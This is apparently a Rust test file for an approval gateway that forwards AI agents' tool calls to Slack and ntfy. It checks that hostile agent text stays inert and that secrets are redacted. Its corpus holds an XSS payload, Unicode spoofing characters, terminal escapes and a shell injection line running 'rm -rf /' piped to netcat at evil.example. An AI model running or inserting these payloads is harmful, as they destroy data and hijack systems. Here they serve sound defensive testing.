//! What agents and servers wrote is shown, and does nothing.

use serde_json::{Value, json};

use super::{SECRET, Scene};
use crate::support::app::Settings;

/// What somebody might write who wants more than to be shown.
const CORPUS: [&str; 16] = [
    "<!channel> <!here> <@U123> <#C123>",
    "<https://evil.example|Look at it and decide>",
    "https://evil.example/approve?id=1",
    "www.evil.example evil.example/x",
    "[Approve](https://evil.example) ![x](https://evil.example/x.png)",
    "` `` ``` *bold* _it_ ~no~",
    "a`b <!channel> `c",
    "@channel @here @everyone @all",
    "line\nAn approval waits: `bob` wants `nothing`\r\n<https://evil.example|yes>",
    "\u{202e}txt.exe\u{2066} \u{200b}\u{feff}\u{2028}",
    "\u{1b}[31mred\u{1b}]8;;https://evil.example\u{7}x\u{7}",
    "</script><img src=x onerror=alert(1)>",
    "&lt;!channel&gt; &amp;",
    "mailto:a@evil.example tel:+1",
    "\u{e0041}\u{e0042} tag characters \u{3164}",
    "$(touch /tmp/x) `id` ; rm -rf / | nc evil.example 1",
];

fn is_shown(text: &str) -> bool {
    let hides = |char: char| {
        char.is_control()
            || matches!(char, '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{feff}' | '\u{e0000}'..='\u{e0fff}' | '\u{3164}')
    };
    !text.chars().any(|char| char != '\n' && hides(char))
}

/// What is left when the pieces of code are taken out.
fn outside_code(text: &str) -> String {
    text.lines().map(|line| line.split('`').step_by(2).collect::<Vec<_>>().join("·")).collect::<Vec<_>>().join("\n")
}

#[actix_rt::test]
async fn nothing_that_an_agent_writes_becomes_a_link_a_mention_or_markup() {
    let scene = Scene::with(Settings::default().with("ATRYUM_GATE__APPROVALS_PER_AGENT", "100")).await;
    scene.channel(json!({"name": "chat", "kind": "slack", "url": scene.url("/hook")})).await;
    scene.channel(json!({"name": "phone", "kind": "ntfy", "url": scene.url("/topic")})).await;
    for text in CORPUS {
        scene.session.call("echo", json!({"text": text})).await;
        // As a name such a text comes to nobody's eyes: the call is denied.
        let answer = scene.session.call(text, json!({})).await;
        assert_eq!(answer["result"]["isError"], true, "{answer}");
    }
    let count = scene.app.operator().get("/api/v1/approvals?limit=200").await.json["items"].as_array().unwrap().len();
    assert_eq!(count, CORPUS.len(), "a question for each text, and none for a name");
    for request in scene.received("/hook", count).await {
        let text = request.json["text"].as_str().unwrap();
        assert!(is_shown(text), "{text:?}");
        let lines: Vec<_> = text.lines().collect();
        assert_eq!(lines.len(), 4, "nobody adds a line: {text}");
        assert!(text.lines().all(|line| line.matches('`').count() % 2 == 0), "{text}");
        let plain = outside_code(text);
        let link = format!("<{}/ui/#approval=", scene.app.url);
        assert_eq!((plain.matches('<').count(), plain.matches("://").count()), (1, 1), "{plain}");
        assert!(plain.lines().last().unwrap().starts_with(&link), "{plain}");
        assert!(!text.contains("<!") && !text.contains("<@") && !plain.contains("evil"), "{text}");
        assert_eq!(text.matches('<').count(), 1, "{text}");
    }
    for request in scene.received("/", count).await {
        for part in ["title", "message"] {
            let text = request.json[part].as_str().unwrap();
            assert!(is_shown(text), "{text:?}");
            for address in ["://", "evil.", "www.", "a@"] {
                assert!(!text.contains(address), "{text}");
            }
        }
        assert!(request.json["message"].as_str().unwrap().lines().count() <= 2, "{}", request.json);
        assert!(request.json["click"].as_str().unwrap().starts_with(&scene.app.url));
        let members: Vec<_> = request.json.as_object().unwrap().keys().cloned().collect();
        assert_eq!(members, ["click", "message", "priority", "tags", "title", "topic"], "no actions");
    }
}

#[actix_rt::test]
async fn what_is_secret_or_long_is_not_told() {
    let redacted = Settings::default().with("ATRYUM_JOURNAL__REDACT", "n echo arguments /nonce");
    let scene = Scene::with(redacted).await;
    scene.webhook("ops").await;
    let bare = json!({"name": "bare", "kind": "webhook", "url": scene.url("/bare"), "secret": SECRET, "with_arguments": false});
    scene.channel(bare).await;
    let arguments = json!({
        "nonce": "canary-in-a-nonce",
        "db": {"Password": "canary-in-a-password", "max_tokens": 5},
        "list": [{"api-key": "canary-in-a-key"}],
        "text": format!("before{}canary-at-the-end", "x".repeat(1_000)),
    });
    scene.ask_with(arguments).await;
    let told = scene.received("/hook", 1).await.remove(0);
    assert!(!told.body.contains("canary"), "{}", told.body);
    let text = told.json["data"]["arguments_text"].as_str().unwrap();
    for part in ["redacted:hmac-sha256:", "\"Password\":\"…\"", "\"api-key\":\"…\"", "\"max_tokens\":5", "beforexxx"]
    {
        assert!(text.contains(part), "{part} in {text}");
    }
    assert!(text.ends_with("more characters)"), "{text}");
    scene.receiver.says("POST /bare", crate::support::provider::Said::json(200, &json!({})));
    let bare = scene.received("/bare", 1).await.remove(0);
    assert_eq!(bare.json["data"]["arguments_text"], Value::Null);
}
